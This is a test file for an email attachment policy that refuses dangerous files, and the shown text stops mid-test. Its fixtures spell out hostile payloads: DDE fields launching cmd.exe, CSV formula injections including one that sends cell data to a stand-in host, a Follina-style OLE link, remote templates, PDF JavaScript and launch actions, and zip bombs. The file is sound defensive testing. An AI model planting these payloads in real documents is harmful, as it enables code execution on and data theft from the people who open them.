import { deflateRawSync, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import {
  attachmentsOverSizeLimit,
  DANGEROUS_KINDS,
  isDangerous,
  judgeAttachment,
  MAX_FORWARD_BYTES,
  refusalReason,
  type AttachmentContent,
  type AttachmentVerdict,
} from '../../shared/domain/attachment-policy.js';
import { MAX_INFLATED_BYTES } from '../../shared/domain/document-inspection.js';
import { zipEntries, ZipError } from '../../shared/domain/zip-archive.js';
import { docx, odt, paragraph, relationship, relationships, wordField, zip } from '../support/documents.js';
import { makePdf, writeRawPdf } from '../support/pdf.js';

const bytes = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));
const judge = (filename: string | null, contentType = 'application/octet-stream', extra: { inline?: boolean; content?: Uint8Array | AttachmentContent } = {}) =>
  judgeAttachment(
    { filename, contentType, inline: extra.inline ?? false },
    extra.content instanceof Uint8Array ? { bytes: extra.content } : extra.content,
  );
const dangerous = (kind: keyof typeof DANGEROUS_KINDS): AttachmentVerdict => ({ forward: false, refusal: { code: 'dangerous', kind } });
const forwarded = (type: string) => ({ forward: true, type });

const LETTER_PDF = bytes(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
);

/** A minimal Excel workbook (.xlsx) with extra parts. */
const xlsx = (parts: Record<string, string | Uint8Array> = {}, mainType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml') =>
  zip([
    {
      name: '[Content_Types].xml',
      data: `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="${mainType}"/></Types>`,
    },
    { name: '_rels/.rels', data: relationships(relationship('rId1', 'officeDocument', 'xl/workbook.xml')) },
    { name: 'xl/workbook.xml', data: '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>' },
    ...Object.entries(parts).map(([name, data]) => ({ name, data })),
  ]);

describe('judgeAttachment', () => {
  it.each([
    ['brief.pdf', 'application/pdf', LETTER_PDF, 'pdf'],
    ['Zienswijze.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', docx(), 'docx'],
    ['notulen.odt', 'application/vnd.oasis.opendocument.text', odt(), 'odt'],
    ['begroting.xlsx', 'application/octet-stream', xlsx(), 'xlsx'],
    ['lijst.csv', 'text/csv', bytes('naam;adres\nA. de Vries;Dorpsstraat 1\n'), 'csv'],
    ['foto.JPG', 'image/jpeg', bytes('\xff\xd8\xff\xe0'), 'jpg'],
    ['kaart.png', 'image/png', bytes('\x89PNG\r\n'), 'png'],
    ['brief.rtf', 'application/rtf', bytes('{\\rtf1\\ansi Geachte raad\\par}'), 'rtf'],
    ['Rapport v1.0 (def).pdf', 'application/pdf', LETTER_PDF, 'pdf'],
  ])('forwards %s', (filename, type, content, expected) => {
    expect(judge(filename, type, { content })).toEqual(forwarded(expected));
  });

  it('judges by name and declared type alone when the bytes are not at hand (the classifier\'s view)', () => {
    expect(judge('Zienswijze.docx', 'application/octet-stream')).toEqual(forwarded('docx'));
    expect(judge('doorgestuurd.eml', 'message/rfc822')).toEqual(forwarded('eml'));
  });

  it('judges a part without a name by its declared type', () => {
    expect(judge(null, 'application/pdf', { content: LETTER_PDF })).toEqual(forwarded('pdf'));
    expect(judge(null, 'application/octet-stream')).toEqual({ forward: false, refusal: { code: 'unsupported' } });
  });

  it.each([
    ['Begroting.docm', 'macro'],
    ['overzicht.xlsm', 'macro'],
    ['presentatie.pptm', 'macro'],
    ['oud-verslag.doc', 'macro'],
    ['inloggen.html', 'web_page'],
    ['kaart.svg', 'web_page'],
    ['Handtekeningen.pdf.lnk', 'shortcut'],
    ['link.url', 'shortcut'],
    ['Plattegrond.exe', 'executable'],
    ['factuur.PDF.EXE', 'executable'],
    ['setup.msi', 'executable'],
    ['script.js', 'script'],
    ['run.ps1', 'script'],
    ['macro.vbs', 'script'],
    ['update.bat', 'script'],
    ['schijf.iso', 'disk_image'],
    ['bijlagen.zip', 'archive'],
    ['stukken.7z', 'archive'],
    ['doorgestuurd.msg', 'outlook_message'],
    ['brief.pdf.   ', 'disguised'],
  ])('never forwards %s (%s)', (filename, kind) => {
    const verdict = judge(filename, 'application/octet-stream', { content: bytes('MZ\x90') });
    expect(verdict).toMatchObject({ forward: false, refusal: { code: 'dangerous' } });
    if (kind !== 'disguised') expect(verdict).toEqual(dangerous(kind as keyof typeof DANGEROUS_KINDS));
  });

  it('never forwards an Outlook message, whatever it is called: its contents and attachments cannot be inspected', () => {
    expect(judge('doorgestuurd.msg', 'application/octet-stream', { content: bytes('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1') })).toEqual(dangerous('outlook_message'));
    expect(judge('doorgestuurd', 'application/vnd.ms-outlook')).toEqual(dangerous('outlook_message'));
    expect(judge(null, 'application/vnd.ms-outlook')).toEqual(dangerous('outlook_message'));
  });

  it('sees through a right-to-left override in the name ("brief\\u202Efdp.exe" shows as "briefexe.pdf")', () => {
    expect(judge('brief\u202Efdp.exe', 'application/pdf')).toEqual(dangerous('executable'));
    expect(judge('brief.\u3164exe', 'application/pdf')).toEqual(dangerous('executable')); // a Hangul filler, invisible too
  });

  it('refuses a file whose bytes are not what its name says', () => {
    expect(judge('brief.pdf', 'application/pdf', { content: bytes('MZ\x90\x00') })).toEqual(dangerous('disguised'));
    expect(judge('brief.pdf', 'application/pdf', { content: bytes('<!DOCTYPE html><form>') })).toEqual(dangerous('disguised'));
    expect(judge('brief.docx', 'application/octet-stream', { content: bytes('%PDF-1.7') })).toEqual(dangerous('disguised'));
    expect(judge('notitie.txt', 'text/plain', { content: bytes('<html><body>') })).toEqual(dangerous('disguised'));
    expect(judge('brief.rtf', 'application/rtf', { content: bytes('{\\rtxyz Word opent dit ook}') })).toEqual(dangerous('disguised'));
  });

  it('refuses by declared type whatever the name says', () => {
    expect(judge('brief.pdf', 'application/x-msdownload')).toEqual(dangerous('executable'));
    expect(judge('brief.pdf', 'text/html')).toEqual(dangerous('web_page'));
    expect(judge('stukken', 'application/zip')).toEqual(dangerous('archive'));
    expect(judge('brief.docx', 'application/vnd.ms-word.document.macroEnabled.12')).toEqual(dangerous('macro'));
  });

  it('leaves layout images and unknown types home without calling them dangerous', () => {
    expect(judge('logo.png', 'image/png', { inline: true, content: bytes('\x89PNG') })).toEqual({ forward: false, refusal: { code: 'inline' } });
    expect(judge('uitnodiging.ics', 'text/calendar')).toEqual({ forward: false, refusal: { code: 'unsupported' } });
    expect(judge('geluid.mp3', 'audio/mpeg')).toEqual({ forward: false, refusal: { code: 'unsupported' } });
  });

  it('does not inspect a file that could never be forwarded (over the limit of one forward)', () => {
    const huge = new Uint8Array(MAX_FORWARD_BYTES + 1);
    huge.set(bytes('%PDF-1.7'));
    expect(judge('scan.pdf', 'application/pdf', { content: huge })).toEqual({ forward: false, refusal: { code: 'too_large' } });
  });
});

describe('Office and OpenDocument files: what is inside the zip', () => {
  const word = (options: Parameters<typeof docx>[0]) => judge('Zienswijze.docx', 'application/octet-stream', { content: docx(options) });
  const openDocument = (options: Parameters<typeof odt>[0]) => judge('Zienswijze.odt', 'application/octet-stream', { content: odt(options) });

  it('forwards ordinary documents: links to web pages and mail, pictures, a chart with its workbook, a picture pasted from the web', () => {
    expect(
      word({
        body: paragraph('Zie onze website.') + wordField(' INCLUDEPICTURE "https://www.oudedorp.example/foto.jpg" \\* MERGEFORMATINET ') + wordField(' HYPERLINK "https://www.heemstede.nl/dde" '),
        documentRelationships: [
          relationship('rId5', 'hyperlink', 'https://www.oudedorp.example/', true),
          relationship('rId6', 'hyperlink', 'mailto:bestuur@oudedorp.example', true),
          relationship('rId7', 'image', 'media/image1.png'),
          relationship('rId8', 'chart', 'charts/chart1.xml'),
        ],
        parts: {
          'word/media/image1.png': bytes('\x89PNG\r\n'),
          'word/charts/chart1.xml': '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>',
          'word/charts/_rels/chart1.xml.rels': relationships(relationship('rId1', 'package', '../embeddings/Microsoft_Excel_Worksheet.xlsx')),
          'word/embeddings/Microsoft_Excel_Worksheet.xlsx': xlsx(),
        },
      }),
    ).toEqual(forwarded('docx'));
    expect(openDocument({ text: '<text:p><text:a xlink:href="https://www.oudedorp.example/">onze site</text:a><draw:image xlink:href="Pictures/1.png"/></text:p>' })).toEqual(forwarded('odt'));
    expect(judge('begroting.xlsx', 'application/octet-stream', { content: xlsx({ 'xl/printerSettings/printerSettings1.bin': bytes('\x00\x01') }) })).toEqual(forwarded('xlsx'));
  });

  it('reads a zip whose directory is written in the Zip64 form', () => {
    const content = zip([{ name: '[Content_Types].xml', data: '<Types/>' }, { name: 'word/document.xml', data: '<w:document/>' }], { zip64: true });
    expect(zipEntries(content).map((e) => e.name)).toEqual(['[Content_Types].xml', 'word/document.xml']);
    expect(judge('brief.docx', 'application/octet-stream', { content })).toEqual(forwarded('docx'));
  });

  it.each([
    ['a VBA project (vbaProject.bin)', { parts: { 'word/vbaProject.bin': bytes('\xd0\xcf\x11\xe0 Sub AutoOpen()') } }],
    ['a VBA project under another name, by its content type', { parts: { 'word/gewoon.bin': bytes('\xd0\xcf\x11\xe0') }, overrides: { '/word/gewoon.bin': 'application/vnd.ms-office.vbaProject' } }],
    ['a VBA project under another name, by its relationship', { parts: { 'word/gewoon.dat': bytes('\xd0\xcf\x11\xe0') }, documentRelationships: [relationship('rId9', 'vbaProject', 'gewoon.dat')] }],
    ['a VBA project in percent-encoded name', { parts: { 'word/vbaProject%2Ebin': bytes('\xd0\xcf\x11\xe0') } }],
    ['a VBA project in upper case', { parts: { 'WORD/VBAPROJECT.BIN': bytes('\xd0\xcf\x11\xe0') } }],
  ])('refuses a Word file with macros: %s', (_, options) => {
    expect(word(options)).toEqual(dangerous('has_macros'));
  });

  it('refuses a macro-enabled document renamed to .docx, and Excel 4.0 macro sheets', () => {
    expect(word({ mainContentType: 'application/vnd.ms-word.document.macroEnabled.main+xml' })).toEqual(dangerous('macro'));
    expect(judge('cijfers.xlsx', 'application/octet-stream', { content: xlsx({ 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' }) })).toEqual(dangerous('has_macros'));
  });

  it.each([
    ['a remote template (template injection)', { parts: { 'word/_rels/settings.xml.rels': relationships(relationship('rId1', 'attachedTemplate', 'https://raadsportaal.example/sjabloon.dotm', true)) } }],
    ['an external OLE object (Follina, CVE-2022-30190)', { documentRelationships: [relationship('rId9', 'oleObject', 'mhtml:https://raadsportaal.example/x.html!x-usc:https://raadsportaal.example/x.html', true)] }],
    ['a picture fetched from a network share (leaks the Windows login)', { documentRelationships: [relationship('rId9', 'image', '\\\\raadsportaal.example\\beeld\\logo.png', true)] }],
    ['a "hyperlink" to a program on disk', { documentRelationships: [relationship('rId9', 'hyperlink', 'file:///C:/Windows/System32/cmd.exe', true)] }],
    ['an external target mode written as a character reference', { documentRelationships: ['<Relationship Id="rId9" Type="x/frame" Target="https://raadsportaal.example/" TargetMode="&#69;xternal"/>'] }],
    ['an external relationship in a UTF-16 part', { parts: { 'word/_rels/footer1.xml.rels': Buffer.from(`\ufeff${relationships(relationship('rId1', 'image', 'https://raadsportaal.example/p.png', true))}`, 'utf16le') } }],
    ['a DDEAUTO field split over runs', { body: wordField(' DD', 'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ') }],
    ['a DDE field as a simple field', { body: '<w:p><w:fldSimple w:instr=" DDE cmd &quot;/c calc&quot; A1"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>' }],
    ['a field whose name is computed by a QUOTE field inside it', { body: '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>' }],
    ['an INCLUDEPICTURE from a network share', { body: wordField(' INCLUDEPICTURE "\\\\\\\\raadsportaal.example\\\\beeld.png" \\d ') }],
  ])('refuses a Word file that fetches or starts something when opened: %s', (_, options) => {
    expect(word(options)).toEqual(dangerous('external_content'));
  });

  it('refuses a presentation whose shape starts a program when pointed at', () => {
    const pptx = zip([
      { name: '[Content_Types].xml', data: '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>' },
      { name: 'ppt/slides/slide1.xml', data: '<p:sld><p:sp><p:nvSpPr><p:cNvPr id="2" name="Titel"><a:hlinkHover r:id="" action="ppaction://program"/></p:cNvPr></p:nvSpPr></p:sp></p:sld>' },
    ]);
    expect(judge('presentatie.pptx', 'application/octet-stream', { content: pptx })).toEqual(dangerous('external_content'));
  });

  it('refuses links to other workbooks and DDE in Excel', () => {
    expect(judge('cijfers.xlsx', 'application/octet-stream', { content: xlsx({ 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }) })).toEqual(dangerous('external_content'));
  });

  it.each([
    ['an OLE object', { parts: { 'word/embeddings/oleObject1.bin': bytes('\xd0\xcf\x11\xe0 Package') } }],
    ['an ActiveX control', { parts: { 'word/activeX/activeX1.xml': '<ax:ocx/>' } }],
    ['a program inside the zip', { parts: { 'word/media/Handtekeningen.exe': bytes('MZ\x90\x00') } }],
    ['a shortcut inside the zip', { parts: { 'Lees mij.lnk': bytes('L\x00\x00\x00') } }],
    ['an embedded file that is no Office package', { parts: { 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': bytes('\xd0\xcf\x11\xe0') } }],
    ['an embedded package that is not where its relationship points', { documentRelationships: [relationship('rId9', 'package', 'embeddings/weg.xlsx')] }],
    ['a package inside an embedded package (only one level is opened)', { parts: { 'word/embeddings/a.docx': docx({ parts: { 'word/embeddings/b.xlsx': xlsx() } }) } }],
  ])('refuses a Word file with an embedded object or program: %s', (_, options) => {
    expect(word(options)).toEqual(dangerous('embedded_object'));
  });

  it('looks inside an embedded workbook: macros there are macros here', () => {
    expect(word({ parts: { 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': xlsx({ 'xl/vbaProject.bin': bytes('\xd0\xcf\x11\xe0') }) } })).toEqual(dangerous('has_macros'));
    expect(word({ parts: { 'word/embeddings/Microsoft_Excel_Worksheet.xlsm': xlsx() } })).toEqual(dangerous('embedded_object'));
  });

  it.each([
    ['LibreOffice Basic', { parts: { 'Basic/Standard/Module1.xml': '<script:module script:name="Module1">Sub Main\nShell("calc")\nEnd Sub</script:module>', 'Basic/script-lc.xml': '<library:libraries/>' } }],
    ['a Python script', { parts: { 'Scripts/python/run.py': 'import os' } }],
    ['a macro run on opening (event listener)', { head: '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="office:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>' }],
    ['a link that runs a script', { text: '<text:p><text:a xlink:href="vnd.sun.star.script:LibreLogo|LibreLogo.py$commandline?language=Python&amp;location=share">klik</text:a></text:p>' }],
  ])('refuses an OpenDocument file with %s', (_, options) => {
    expect(openDocument(options)).toEqual(dangerous('has_macros'));
  });

  it('forwards an OpenDocument file whose library lists are empty (LibreOffice writes them without macros), with folder entries', () => {
    expect(openDocument({ parts: { 'Basic/': '', 'Basic/Standard/': '', 'Basic/script-lc.xml': '<library:libraries/>', 'Configurations2/accelerator/': '' } })).toEqual(forwarded('odt'));
  });

  it('refuses OpenDocument files that fetch something or carry an OLE object', () => {
    expect(openDocument({ text: '<text:section text:name="s"><text:section-source xlink:href="https://raadsportaal.example/tekst.odt"/></text:section>' })).toEqual(dangerous('external_content'));
    expect(openDocument({ text: '<text:p><text:a xlink:href="\\\\raadsportaal.example\\share">map</text:a></text:p>' })).toEqual(dangerous('external_content'));
    expect(openDocument({ head: '<office:dde-connection-decls/><text:dde-connection-decl office:dde-application="cmd"/>' })).toEqual(dangerous('external_content'));
    expect(openDocument({ text: '<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>' })).toEqual(dangerous('embedded_object'));
    expect(openDocument({ parts: { 'Object 1': bytes('\xd0\xcf\x11\xe0') } })).toEqual(dangerous('embedded_object'));
  });

  it('refuses a zip named as a document that is no Office document (an .exe and a shortcut inside)', () => {
    const content = zip([
      { name: 'Handtekeningen.exe', data: bytes('MZ\x90\x00') },
      { name: 'Lees mij.lnk', data: bytes('L\x00\x00\x00') },
    ]);
    expect(judge('handtekeningen.docx', 'application/octet-stream', { content })).toEqual(dangerous('disguised'));
  });

  it.each([
    ['is cut off', () => docx().subarray(0, 300)],
    ['is only the zip signature', () => bytes('PK\x03\x04 nothing else')],
    ['hides an entry from its directory', () => zip([{ name: '[Content_Types].xml', data: '<Types/>' }, { name: 'word/vbaProject.bin', data: 'Sub AutoOpen', unlisted: true }, { name: 'word/document.xml', data: '<w:document/>' }])],
    ['names one entry twice (local header and directory disagree)', () => zip([{ name: '[Content_Types].xml', data: '<Types/>' }, { name: 'word/document.xml', localName: 'word/vbaProject.bin', data: 'Sub AutoOpen' }])],
    ['holds two entries Office reads as one part', () => zip([{ name: '[Content_Types].xml', data: '<Types/>' }, { name: 'word/document.xml', data: '<w:document/>' }, { name: 'WORD/DOCUMENT.XML', data: '<w:document/>' }])],
    ['is encrypted', () => zip([{ name: '[Content_Types].xml', data: '<Types/>' }, { name: 'word/document.xml', data: '<w:document/>', flags: 1 }])],
    ['uses a compression Office cannot read', () => zip([{ name: '[Content_Types].xml', data: '<Types/>' }, { name: 'word/document.xml', data: '<w:document/>', method: 12 }])],
    ['holds a part that inflates far beyond what its directory says (a zip bomb)', () => zip([{ name: '[Content_Types].xml', data: '<Types/>' }, { name: 'word/_rels/document.xml.rels', data: new Uint8Array(MAX_INFLATED_BYTES + 1024), declaredSize: 100 }])],
    ['holds more than may be inflated (an honest zip bomb)', () => zip([{ name: '[Content_Types].xml', data: '<Types/>' }, { name: 'word/document.xml', data: new Uint8Array(MAX_INFLATED_BYTES + 1024) }])],
  ])('cannot check a document that %s, and says so', (_, make) => {
    expect(judge('brief.docx', 'application/octet-stream', { content: make() })).toEqual(dangerous('unchecked'));
  });

  it('reads a zip strictly: a broken one is a ZipError, never a crash', () => {
    const content = docx();
    for (const cut of [22, 100, content.length - 30, content.length - 1]) {
      expect(() => zipEntries(content.subarray(0, cut)), `cut at ${cut}`).toThrow(ZipError);
    }
    const damaged = Buffer.from(content);
    damaged.writeUInt32LE(0xfffffff0, damaged.length - 6); // the directory's offset points past the end
    expect(() => zipEntries(damaged)).toThrow(ZipError);
  });
});

describe('RTF: embedded objects, remote templates and fields', () => {
  const rtf = (text: string) => judge('zienswijze.rtf', 'application/rtf', { content: bytes(text) });

  it('forwards an ordinary RTF letter, with a hyperlink field', () => {
    expect(rtf('{\\rtf1\\ansi{\\fonttbl\\f0 Arial;}\\f0 Geachte raad,\\par {\\field{\\*\\fldinst HYPERLINK "https://www.oudedorp.example/dde"}{\\fldrslt site}}\\par}')).toEqual(forwarded('rtf'));
  });

  it.each([
    ['\\object with \\objdata (the Equation Editor carrier)', '{\\rtf1 Zienswijze\\par{\\object\\objemb{\\*\\objclass Equation.3}\\objw380\\objh260{\\*\\objdata 0105000002000000}}}'],
    ['\\objdata alone', '{\\rtf1 tekst {\\*\\objdata 01050000}}'],
    ['\\objclass in capitals', '{\\rtf1 {\\*\\OBJCLASS Package}}'],
  ])('refuses an RTF with an embedded object: %s', (_, text) => {
    expect(rtf(text)).toEqual(dangerous('embedded_object'));
  });

  it('refuses an RTF that loads a remote template or runs DDE (also hex-escaped or computed)', () => {
    expect(rtf('{\\rtf1{\\*\\template https://raadsportaal.example/sjabloon.dotm} tekst}')).toEqual(dangerous('external_content'));
    expect(rtf('{\\rtf1 {\\field{\\*\\fldinst {\\rtlch DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}}{\\fldrslt x}}}')).toEqual(dangerous('external_content'));
    expect(rtf("{\\rtf1 {\\field{\\*\\fldinst \\'44\\'44EAUTO cmd}{\\fldrslt x}}}")).toEqual(dangerous('external_content'));
    expect(rtf('{\\rtf1 {\\field{\\*\\fldinst {\\field{\\*\\fldinst QUOTE 68 68 69}} cmd}{\\fldrslt x}}}')).toEqual(dangerous('external_content'));
  });
});

describe('CSV: formulas', () => {
  const csv = (text: string | Uint8Array) => judge('handtekeningen.csv', 'text/csv', { content: typeof text === 'string' ? bytes(text) : text });

  it('forwards lists with negative amounts, phone numbers and dashes', () => {
    expect(csv('naam;bedrag;telefoon;opmerking\nA. de Vries;-12,50;+31 6 1234 5678;- geen\nB. Jansen;+3;-;"tekst, met komma"\n')).toEqual(forwarded('csv'));
  });

  it.each([
    ['=HYPERLINK', 'naam,adres\n=HYPERLINK("https://raadsportaal.example/login";"Klik om de lijst te openen"),Schoolstraat 1\n'],
    ['a quoted formula', 'naam,adres\n"=1+1",Schoolstraat 1\n'],
    ['DDE with a minus', 'naam,adres\nJan,-cmd|\' /c calc\'!A0\n'],
    ['DDE with a plus', 'naam;adres\n+cmd|\' /c calc\'!A0;x\n'],
    ['an @ function', 'naam\n@SUM(1+9)*cmd|\' /c calc\'!A0\n'],
    ['after a semicolon (Dutch Excel)', 'naam;adres\nJan;=WEBSERVICE("https://raadsportaal.example/?"&A1)\n'],
    ['after a tab', 'naam\tadres\nJan\t=1+1\n'],
    ['after a carriage return', 'naam,adres\r=1+1,x\r'],
  ])('refuses a CSV with formulas: %s', (_, text) => {
    expect(csv(text)).toEqual(dangerous('formulas'));
  });

  it('reads a UTF-16 CSV (Excel\'s "Unicode text") and a UTF-8 one with a byte order mark', () => {
    expect(csv(new Uint8Array(Buffer.from('\ufeffnaam\tadres\n=HYPERLINK("x")\tDorpsstraat\n', 'utf16le')))).toEqual(dangerous('formulas'));
    expect(csv(new Uint8Array(Buffer.from('\ufeff=1+1;x\n', 'utf8')))).toEqual(dangerous('formulas'));
  });
});

describe('PDF: active content', () => {
  const pdf = (content: Uint8Array) => judge('brief.pdf', 'application/pdf', { content });
  const catalog = (extra: string) => writeRawPdf([`<< /Type /Catalog /Pages 2 0 R ${extra} >>`, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>']);

  it('forwards letters as Word and pdf-lib write them (object streams included), and one that opens at its first page', async () => {
    expect(pdf(await makePdf([['Geachte raadsleden,', 'Wij vragen u aandacht voor de speeltuin.']]))).toEqual(forwarded('pdf'));
    expect(pdf(catalog('/OpenAction [3 0 R /Fit]'))).toEqual(forwarded('pdf'));
    expect(pdf(LETTER_PDF)).toEqual(forwarded('pdf'));
  });

  it.each([
    ['JavaScript on opening', '/OpenAction << /S /JavaScript /JS (app.alert\\("log opnieuw in"\\)) >>'],
    ['a hex-escaped name (/J#61vaScript)', '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>'],
    ['document JavaScript', '/Names << /JavaScript 5 0 R >>'],
    ['a launch action', '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>'],
    ['an embedded file', '/Names << /EmbeddedFiles << /Names [(handtekeningen.exe) 5 0 R] >> >>'],
    ['an XFA form', '/AcroForm << /XFA 5 0 R >>'],
    ['a form that sends itself', '/OpenAction << /S /SubmitForm /F (https://raadsportaal.example/) >>'],
    ['rich media', '/Extra << /Subtype /RichMedia >>'],
    ['additional actions', '/AA << /WC 5 0 R >>'],
    ['a web page opened on opening', '/OpenAction << /S /URI /URI (https://raadsportaal.example/login) >>'],
    ['a file on a share opened on opening', '/OpenAction << /S /GoToR /F (\\\\\\\\raadsportaal.example\\\\x.pdf) >>'],
  ])('refuses a PDF with %s', (_, extra) => {
    expect(pdf(catalog(extra))).toEqual(dangerous('active_pdf'));
  });

  it('refuses an action on opening that is referred to (the action is another object)', () => {
    const content = writeRawPdf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
      '<< /S /URI /URI (https://raadsportaal.example/login) >>',
    ]);
    expect(pdf(content)).toEqual(dangerous('active_pdf'));
  });

  it('finds JavaScript and actions inside compressed object streams (as Word and pdf-lib write PDFs)', async () => {
    const withScript = await PDFDocument.create();
    withScript.addPage();
    withScript.catalog.set(PDFName.of('OpenAction'), withScript.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }));
    const scripted = await withScript.save({ useObjectStreams: true });
    expect(Buffer.from(scripted).includes('JavaScript')).toBe(false); // invisible to a plain byte scan
    expect(pdf(scripted)).toEqual(dangerous('active_pdf'));

    const withUri = await PDFDocument.create();
    withUri.addPage();
    const action = withUri.context.register(withUri.context.obj({ S: 'URI', URI: PDFString.of('https://raadsportaal.example/') }));
    withUri.catalog.set(PDFName.of('OpenAction'), action);
    expect(pdf(await withUri.save({ useObjectStreams: true }))).toEqual(dangerous('active_pdf'));
  });

  it('does not take /JS in the bytes of a picture for JavaScript, but /JavaScript anywhere counts', () => {
    const picture = (data: string) => writeRawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>', { dict: '/Type /XObject /Subtype /Image', stream: bytes(data) }]);
    expect(pdf(picture('\x01\x02/JS (\x03\x04/AA <<\x05'))).toEqual(forwarded('pdf'));
    expect(pdf(picture('\x01/S /JavaScript\n\x02'))).toEqual(dangerous('active_pdf'));
  });

  it('cannot check a PDF whose object streams it cannot read, and says so', () => {
    const objectStream = (dict: string, data: Uint8Array) =>
      writeRawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>', { dict: `/Type /ObjStm /N 1 /First 4 ${dict}`, stream: data }]);
    expect(pdf(objectStream('/Filter /ASCIIHexDecode', bytes('3520302f')))).toEqual(dangerous('unchecked'));
    expect(pdf(objectStream('/Filter /FlateDecode', bytes('not deflate data')))).toEqual(dangerous('unchecked'));
    expect(pdf(objectStream('/Filter /FlateDecode', new Uint8Array(deflateSync(Buffer.alloc(MAX_INFLATED_BYTES + 1024, 0x20)))))).toEqual(dangerous('unchecked'));
    const encrypted = writeRawPdf(
      ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>', { dict: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', stream: bytes('\x93\x11 versleuteld') }, '<< /Filter /Standard /V 2 >>'],
      '/Encrypt 4 0 R ',
    );
    expect(pdf(encrypted)).toEqual(dangerous('unchecked'));
  });

  it('finds an object stream by its /First and /N when it does not say it is one (viewers do not ask), and its /Length by reference', () => {
    const objects = '5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>';
    const content = writeRawPdf([
      '<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>',
      '<< /Type /Pages /Kids [] /Count 0 >>',
      { dict: '/N 1 /First 4 /Filter /FlateDecode', stream: new Uint8Array(deflateSync(Buffer.from(objects, 'latin1'))) },
    ]);
    expect(pdf(content)).toEqual(dangerous('active_pdf'));
    const data = deflateSync(Buffer.from(objects, 'latin1'));
    const indirect = Buffer.concat([
      Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 3 0 R >>\nstream\n', 'latin1'),
      data,
      Buffer.from(`\nendstream\nendobj\n3 0 obj\n${data.length}\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`, 'latin1'),
    ]);
    expect(pdf(new Uint8Array(indirect))).toEqual(dangerous('active_pdf'));
  });

  it('leaves other compressed streams alone, even after bookmarks (/First) and a colour profile (/N)', () => {
    const content = writeRawPdf([
      '<< /Type /Catalog /Pages 2 0 R /Outlines 3 0 R >>',
      '<< /Type /Pages /Kids [] /Count 0 >>',
      '<< /Type /Outlines /First 4 0 R /Last 4 0 R /Count 1 >>',
      { dict: '/N 3 /Alternate /DeviceRGB /Filter /FlateDecode', stream: new Uint8Array(deflateSync(Buffer.alloc(MAX_INFLATED_BYTES + 1024))) },
    ]);
    expect(pdf(content)).toEqual(forwarded('pdf'));
  });

  it('inflates object streams written as raw deflate (a damaged zlib header viewers accept)', () => {
    const objects = '5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>';
    const raw = Buffer.concat([Buffer.from([0x78, 0x00]), deflateRawSync(Buffer.from(objects, 'latin1'))]);
    const content = writeRawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>', { dict: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', stream: raw }]);
    expect(pdf(content)).toEqual(dangerous('active_pdf'));
  });
});

describe('attached e-mail', () => {
  const message = (attached?: AttachmentContent['attached']) =>
    judge('doorgestuurd.eml', 'message/rfc822', { content: { bytes: bytes('From: a@oudedorp.example\r\n\r\ntekst'), ...(attached && { attached }) } });
  const inner = (filename: string, contentType: string, content: Uint8Array, inline = false) => ({ filename, contentType, inline, content: { bytes: content } });

  it('forwards an attached e-mail whose own attachments would all go along (pictures of its layout aside)', () => {
    expect(message([])).toEqual(forwarded('eml'));
